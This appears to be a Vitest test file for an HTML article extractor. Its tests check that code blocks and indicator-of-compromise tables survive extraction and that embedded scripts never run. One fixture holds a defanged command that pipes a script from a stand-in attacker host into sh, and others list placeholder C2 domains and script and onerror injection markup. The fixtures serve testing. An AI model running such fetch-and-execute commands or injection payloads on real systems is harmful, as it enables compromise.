import { describe, expect, test } from 'vitest';
import { extractArticle } from '../../src/sources/full-text.ts';

const prose = (n: number) =>
  Array.from(
    { length: n },
    (_, i) => `<p>Paragraph ${i} of the story says something, at some length, as stories do, with commas.</p>`,
  ).join('');

function page(content: string): string {
  return `<!DOCTYPE html><html><head><title>Story</title><script>window.x = 1</script></head><body>
    <header><a href="/">Brand</a></header><nav><ul><li><a href="/a">Products</a></li><li><a href="/b">Careers CVE-2000-0001</a></li></ul></nav>
    <div class="cookie-banner">We value your privacy</div>
    <main><article><h1>Story</h1>${content}</article></main>
    <aside><ul><li>Trending: CVE-2000-0002</li></ul></aside>
    <footer><ul><li>10.1.1.1</li></ul>© Brand</footer></body></html>`;
}

describe('an article out of its page', () => {
  test('without the furniture', () => {
    const text = extractArticle(page(prose(10)));
    expect(text).toContain('Paragraph 0 of the story');
    expect(text).toContain('Paragraph 9 of the story');
    expect(text).not.toMatch(/Careers|privacy|Trending|©|window\.x/);
  });

  test('code blocks stay line by line', () => {
    const code = '<pre><code class="language-sh">curl -s hxxp://evil[.]example/a.sh \\\n  | sh\n</code></pre>';
    expect(extractArticle(page(prose(5) + code + prose(5)))).toContain('curl -s hxxp://evil[.]example/a.sh \\\n  | sh');
  });

  test('tables of indicators stay row by row', () => {
    const rows = Array.from(
      { length: 12 },
      (_, i) => `<tr><td>Domain</td><td>c2-${i}[.]example</td><td>C2</td></tr>`,
    ).join('');
    const text = extractArticle(
      page(
        `${prose(5)}<h2>Indicators of compromise</h2><table><tr><th>Type</th><th>Value</th><th>Note</th></tr>${rows}</table>`,
      ),
    );
    expect(text).toContain('Indicators of compromise');
    for (let i = 0; i < 12; i += 1) expect(text).toContain(`Domain | c2-${i}[.]example | C2`);
  });

  test.each([
    ['a list of links', '<ul class="related">', (value: string) => `<li><a href="#">${value}</a></li>`, '</ul>'],
    [
      'a list in a box that looks like an advertisement',
      '<div class="sidebar promo"><ul>',
      (value: string) => `<li>${value}</li>`,
      '</ul></div>',
    ],
    [
      'a table after the article',
      '</article><table class="share">',
      (value: string) => `<tr><td>${value}</td></tr>`,
      '</table><article>',
    ],
  ])('indicators are kept in %s', (_name, open, line, close) => {
    const values = Array.from({ length: 6 }, (_, i) => `c2-${i}[.]example`);
    const text = extractArticle(page(`${prose(6)}<h2>IOCs</h2>${open}${values.map(line).join('')}${close}`)) ?? '';
    for (const value of values) expect(text.split(value)).toHaveLength(2);
    expect(text).toContain('IOCs');
  });

  test('no scripts run and nothing is loaded', () => {
    const html = page(
      `${prose(6)}<script>globalThis.ran = true; document.body.innerHTML = 'gone'</script><img src="http://127.0.0.1:1/x" onerror="globalThis.ran = true"><iframe src="http://127.0.0.1:1/"></iframe>`,
    );
    expect(extractArticle(html)).toContain('Paragraph 5');
    expect(globalThis).not.toHaveProperty('ran');
  });

  test.each([
    ['nothing', ''],
    ['no HTML', 'plain'],
    ['a login form', '<html><body><form><input name=user></form></body></html>'],
    ['too short', page('<p>Short.</p>')],
    ['endless nesting', `<body>${'<div>'.repeat(50_000)}`],
    ['too many elements', `<body>${'<i>x</i>'.repeat(60_000)}`],
    ['too large', `<body>${'x'.repeat(5_000_000)}`],
  ])('%s is no article', (_name, html) => {
    expect(extractArticle(html)).toBeUndefined();
  });

  test('a page of 30,000 elements is read in bearable time', () => {
    expect(extractArticle(page(prose(30_000)))).toContain('Paragraph 29999');
  });
});
